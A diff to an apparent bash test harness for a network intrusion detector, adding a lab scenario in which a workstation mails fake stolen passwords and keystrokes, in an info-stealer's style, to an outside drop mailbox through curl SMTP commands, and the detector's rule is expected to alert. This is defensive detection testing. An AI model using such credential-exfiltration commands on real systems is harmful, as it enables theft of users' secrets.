@@ -45,7 +45,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel ldap-enum ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ldap-recon crypto-mining cleartext-login ftp-files mail-files)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ldap-recon crypto-mining cleartext-login ftp-files mail-files mail-out)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -1601,6 +1601,35 @@ scenario_mail_files() {
   require mail-files 3 "tcp and src host 10.77.2.21 and dst port 25 and tcp[tcpflags] & tcp-push != 0"
   expect mail-files "SMTP to aiosmtpd 1.4 on the mail server 10.77.1.10; curl 7.88 clients. From the Internet host 198.51.100.10: a message to jdoe and ap with a Windows program (the pe_program helper's) attached as invoice.exe, base64, beside a multipart/alternative text and HTML body. From 10.77.2.20: a plain note. From 10.77.2.21: STARTTLS first (self-signed certificate), then the same note, encrypted. file.bad_hash's tests list the program; with the lab config alone nothing alerts. device.new may fire for the server network's hosts, whose first frames these are." \
     '[]' \
+    '  "exclusive": true,
+  "allow": ["device.new"]'
+}
+
+scenario_mail_out() {
+  # Mail servers on the Internet host: aiosmtpd (Sink) on 25 for relaying and 587 for submission.
+  scen_bg inet aiosmtpd -n -c aiosmtpd.handlers.Sink -l 198.51.100.10:25
+  scen_bg inet aiosmtpd -n -c aiosmtpd.handlers.Sink -l 198.51.100.10:587
+  wait_listen inet 25
+  wait_listen inet 587
+  local msg="$WORK/mail-out"
+  mkdir -p "$msg"
+  # Workstation 10.77.2.22 mails its loot straight to an outside mail server, as Agent Tesla does:
+  # two messages with the stealer's subject style, each its own connection.
+  printf 'From: ws22@lab.example\r\nTo: drop@mailbox.example\r\nSubject: PW_jdoe/WS22\r\n\r\nURL: https://intranet.lab.example\r\nUsername: jdoe\r\nPassword: Summer2026!\r\n' >"$msg/loot.txt"
+  printf 'From: ws22@lab.example\r\nTo: drop@mailbox.example\r\nSubject: KL_jdoe/WS22\r\n\r\n[keystrokes] quarterly report draft\r\n' >"$msg/keys.txt"
+  nsx ws22 curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:25/WS22 --mail-from ws22@lab.example --mail-rcpt drop@mailbox.example -T "$msg/loot.txt"
+  nsx ws22 curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:25/WS22 --mail-from ws22@lab.example --mail-rcpt drop@mailbox.example -T "$msg/keys.txt"
+  # No alert: the site's mail server 10.77.1.10 relays a message out (allowed_senders in picket.yaml),
+  # and a workstation submits one to its provider on 587.
+  printf 'From: jdoe@lab.example\r\nTo: partner@partner.example\r\nSubject: minutes\r\n\r\nAttached are the minutes.\r\n' >"$msg/minutes.txt"
+  nsx srv curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:25/mail.lab.example --mail-from jdoe@lab.example --mail-rcpt partner@partner.example -T "$msg/minutes.txt"
+  nsx ws23 curl -s --noproxy '*' --max-time 10 --url smtp://198.51.100.10:587/ws23.lab.example --mail-from ap@lab.example --mail-rcpt partner@partner.example -T "$msg/minutes.txt"
+  stop_capture
+  require mail-out 6 "tcp and src host 10.77.2.22 and dst port 25 and tcp[tcpflags] & tcp-push != 0"
+  require mail-out 3 "tcp and src host 10.77.1.10 and dst port 25 and tcp[tcpflags] & tcp-push != 0"
+  require mail-out 3 "tcp and src host 10.77.2.23 and dst port 587 and tcp[tcpflags] & tcp-push != 0"
+  expect mail-out "SMTP from the site to aiosmtpd 1.4 on the Internet host 198.51.100.10; curl 7.88 clients. 10.77.2.22 sends two messages straight to its port 25, with an info-stealer's subjects (PW_jdoe/WS22, KL_jdoe/WS22). Must not alert: the mail server 10.77.1.10 relaying a message out (allowed_senders in the lab config), and 10.77.2.23 submitting one on port 587. device.new may fire for the server network's hosts, whose first frames these are." \
+    '[{"rule": "smtp.direct_to_internet", "source": {"ip": "10.77.2.22"}, "destination": {"ip": "198.51.100.10", "port": 25}, "evidence": {"established": 2, "failed": 0, "messages": 2, "recipients": 2, "senders": ["ws22@lab.example"], "subjects": ["PW_jdoe/WS22", "KL_jdoe/WS22"]}}]' \
     '  "exclusive": true,
   "allow": ["device.new"]'
 }
